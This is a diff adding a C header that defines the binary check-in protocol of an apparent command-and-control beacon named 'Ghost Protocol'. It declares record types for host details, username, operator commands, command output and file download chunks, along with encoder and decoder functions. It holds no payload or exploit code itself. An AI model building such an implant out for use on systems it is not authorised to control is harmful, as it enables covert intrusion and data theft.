@@ -0,0 +1,121 @@
+/*
+ * Ghost Protocol Beacon - TLV Module
+ * Header file for the binary length-prefixed check-in framing
+ */
+
+#ifndef TLV_H
+#define TLV_H
+
+#include "beacon.h"
+#include <stdint.h>
+
+// Every TLV body opens with this tag; the last byte is the format version
+#define TLV_MAGIC "GPT\x01"
+#define TLV_MAGIC_SIZE 4
+#define TLV_CONTENT_TYPE "application/x-ghost-tlv"
+
+// One type byte followed by a big-endian 32-bit value length
+#define TLV_HEADER_SIZE 5
+#define TLV_MAX_DEPTH 4
+
+// Record types; codes are scoped to the container they appear in
+typedef enum {
+    // Check-in body
+    TLV_BEACON_ID = 0x01,
+    TLV_TIMESTAMP = 0x02,
+    TLV_SYSTEM_INFO = 0x10,
+    TLV_RESULT = 0x20,
+    TLV_BACKPRESSURE = 0x30,
+    TLV_TELEMETRY = 0x60,
+    
+    // Check-in reply
+    TLV_COMMAND = 0x40,
+    TLV_ACK = 0x50,
+    TLV_SESSION = 0x70,           // check-in token, on the reply to a check-in that sent the beacon id
+    
+    // Inside TLV_SYSTEM_INFO
+    TLV_HOSTNAME = 0x11,
+    TLV_USERNAME = 0x12,
+    TLV_OS_NAME = 0x13,
+    TLV_OS_VERSION = 0x14,
+    TLV_ARCHITECTURE = 0x15,
+    TLV_PID = 0x16,
+    TLV_CWD = 0x17,
+    
+    // Inside TLV_RESULT and TLV_COMMAND
+    TLV_COMMAND_ID = 0x21,
+    TLV_SUCCESS = 0x22,
+    TLV_OUTPUT = 0x23,
+    TLV_RESULT_TIME = 0x24,
+    TLV_SEQUENCE = 0x25,
+    TLV_FINAL = 0x26,
+    TLV_RESULT_SEQ = 0x27,
+    TLV_FILE_DATA = 0x28,         // raw bytes of a download, in place of TLV_OUTPUT
+    TLV_OFFSET = 0x29,            // file position of TLV_FILE_DATA
+    TLV_COMMAND_NAME = 0x41,
+    TLV_COMMAND_ARGS = 0x42,
+    TLV_COMMAND_OPCODE = 0x43,    // command_opcode_t, so the beacon skips the name lookup
+    
+    // Inside TLV_BACKPRESSURE
+    TLV_QUEUED_RESULTS = 0x31,
+    TLV_QUEUED_BYTES = 0x32,
+    TLV_BUDGET = 0x33,
+    TLV_ACCEPT = 0x34,
+    TLV_LONG_POLL = 0x35,
+    
+    // Inside TLV_TELEMETRY, one TLV_PHASE per timed phase
+    TLV_PHASE = 0x61,
+    TLV_PHASE_NAME = 0x62,
+    TLV_PHASE_COUNT = 0x63,
+    TLV_PHASE_FAILURES = 0x64,
+    TLV_PHASE_SUM = 0x65,
+    TLV_PHASE_MAX = 0x66,
+    TLV_PHASE_BUCKETS = 0x67      // packed (u8 bucket, u32 count) pairs, empty buckets left out
+} tlv_type_t;
+
+// Growable output buffer; containers are patched with their length on close
+typedef struct {
+    char* data;
+    size_t length;
+    size_t capacity;
+    int error;
+    int depth;
+    size_t open[TLV_MAX_DEPTH];   // offset of each open container's header
+    arena_t* arena;               // backing arena, or NULL for the heap
+} tlv_writer_t;
+
+// One decoded record; value points into the source buffer
+typedef struct {
+    unsigned int type;
+    const char* value;
+    size_t length;
+} tlv_field_t;
+
+// Reader over a caller-owned buffer
+typedef struct {
+    const char* pos;
+    const char* end;
+} tlv_reader_t;
+
+// Writer functions
+int tlv_writer_init(tlv_writer_t* writer, arena_t* arena, size_t initial_capacity);
+void tlv_writer_free(tlv_writer_t* writer);
+void tlv_begin(tlv_writer_t* writer, tlv_type_t type);
+void tlv_end(tlv_writer_t* writer);
+void tlv_put(tlv_writer_t* writer, tlv_type_t type, const char* value, size_t length);
+void tlv_put_string(tlv_writer_t* writer, tlv_type_t type, const char* value);
+void tlv_put_u8(tlv_writer_t* writer, tlv_type_t type, unsigned int value);
+void tlv_put_u32(tlv_writer_t* writer, tlv_type_t type, uint32_t value);
+void tlv_put_u64(tlv_writer_t* writer, tlv_type_t type, uint64_t value);
+
+// Reader functions
+void tlv_reader_init(tlv_reader_t* reader, const char* data, size_t length);
+int tlv_next(tlv_reader_t* reader, tlv_field_t* field);
+uint64_t tlv_field_uint(const tlv_field_t* field);
+int tlv_is_tlv(const char* data, size_t length);
+
+// Check-in reply parsing
+int tlv_parse_commands(const char* data, size_t length, arena_t* arena,
+                       command_record_t** commands, int max_commands, long* ack);
+
+#endif // TLV_H